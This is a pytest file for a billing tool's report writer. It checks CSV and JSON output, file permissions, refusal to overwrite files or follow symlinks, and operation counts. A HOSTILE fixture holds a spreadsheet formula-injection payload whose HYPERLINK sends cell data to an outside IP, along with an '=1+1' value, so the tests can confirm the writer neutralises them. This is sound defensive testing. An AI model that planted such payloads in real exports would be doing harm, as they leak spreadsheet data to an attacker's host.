"""The report of a job: every operation, safe in a spreadsheet, never over a file that is there."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

import pytest

from billtui.services import planner
from billtui.services.journal import Journal, JournalReader, OperationState
from billtui.services.journal.report import COLUMNS, ReportExists, ReportFormat, default_name, write_report
from tests.support.money_panel import MoneyPanel

S = OperationState
HOSTILE = '=HYPERLINK("http://192.0.2.1/"&A1,"x")\r\n@SUM(A1)'


@pytest.fixture
def journal(tmp_path: Path) -> JournalReader:
    path = tmp_path / "state" / "journal.sqlite"
    writer = Journal(path)
    panel = MoneyPanel()
    plan = planner.pay(panel.account(), panel.add_invoices(4), "internal")
    writer.add_job(plan, "somebody", held=False)
    for number, to, fields in (
        (1, S.DONE, {"answer": {"id": "p1"}, "request_id": "req-1"}),
        (2, S.REFUSED, {"code": "insufficient-funds", "rule": "INV-3", "detail": HOSTILE, "request_id": "=1+1"}),
        (3, S.UNKNOWN, {"code": "timed-out", "detail": "No answer within 30 s."}),
    ):
        writer.move(plan.id, number, S.SENDING, come_from=(S.PREPARED,))
        writer.move(plan.id, number, to, come_from=(S.SENDING,), **fields)
    writer.close()
    return JournalReader(path)


def test_csv_has_every_operation_and_no_formula(journal: JournalReader, tmp_path: Path) -> None:
    job = journal.jobs()[0]
    path = tmp_path / default_name(job, ReportFormat.CSV)
    assert path.suffix == ".csv" and write_report(journal, job.id, path, ReportFormat.CSV) == 4
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"), newline="")))
    assert tuple(rows[0]) == COLUMNS and [row["number"] for row in rows] == ["1", "2", "3", "4"]
    assert [row["state"] for row in rows] == ["done", "refused", "unknown", "prepared"]
    assert {row["amount"] for row in rows} == {"10.00"} and {row["currency"] for row in rows} == {"EUR"}
    assert rows[0]["request_id"] == "req-1" and rows[0]["times_sent"] == "1" and rows[0]["first_sent_at"]
    assert rows[1]["code"] == "insufficient-funds" and rows[1]["rule"] == "INV-3"
    assert rows[3]["first_sent_at"] == "" and rows[3]["times_sent"] == "0"
    cells = [cell for row in rows for cell in row.values()]
    assert rows[1]["reason"].startswith("'=") and rows[1]["request_id"] == "'=1+1"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert not any("\r" in cell or "\n" in cell for cell in cells), "text from a panel keeps to its line"


def test_json_has_the_job_and_its_operations(journal: JournalReader, tmp_path: Path) -> None:
    job = journal.jobs()[0]
    path = tmp_path / "report.json"
    write_report(journal, job.id, path, ReportFormat.JSON)
    found = json.loads(path.read_text("utf-8"))
    assert found["schema"] == 1 and found["job"]["id"] == job.id
    assert found["job"]["counts"] == {"done": 1, "prepared": 1, "refused": 1, "unknown": 1}
    assert found["job"]["total"] == "40.00" and found["job"]["left"] == "20.00"
    assert [one["targets"] for one in found["operations"]] == [[f"invoice:{n}"] for n in (1, 2, 3, 4)]
    assert set(found["operations"][0]) == set(COLUMNS)


def test_nothing_is_written_over(journal: JournalReader, tmp_path: Path) -> None:
    job = journal.jobs()[0]
    there, link = tmp_path / "there.csv", tmp_path / "link.csv"
    there.write_text("mine")
    link.symlink_to(tmp_path / "nowhere")
    for path in (there, link):
        with pytest.raises(ReportExists):
            write_report(journal, job.id, path, ReportFormat.CSV)
    assert there.read_text() == "mine" and not (tmp_path / "nowhere").exists()
    with pytest.raises(OSError):
        write_report(journal, job.id, tmp_path / "missing" / "x.csv", ReportFormat.CSV)


def test_counts_follow_every_move_though_they_are_kept(journal: JournalReader) -> None:
    """What is left, and the counts, are those of counting anew (the tallies are kept between looks)."""
    job = journal.jobs()[0]
    writer = Journal(journal.path)
    watcher = JournalReader(journal.path)
    generation, _ = watcher.moved_since(job.id, 0)
    assert watcher.job(job.id).counts[S.PREPARED] == 1
    writer.move(job.id, 4, S.SENDING, come_from=(S.PREPARED,))
    writer.move(job.id, 3, S.DONE, come_from=(S.UNKNOWN,), answer={"id": "p3"})
    for reader in (watcher, JournalReader(journal.path)):
        row = reader.job(job.id)
        assert row.counts == {S.DONE: 2, S.REFUSED: 1, S.SENDING: 1} and str(row.left) == "10.00 EUR"
        assert row.closed_count == 3
    now, moved = watcher.moved_since(job.id, generation)
    assert now == generation + 2 and [one.number for one in moved] == [3, 4] and moved[0].answer is None
    assert watcher.moved_since(job.id, now) == (now, []) and watcher.operation(job.id, 3).answer == {"id": "p3"}
    writer.close()
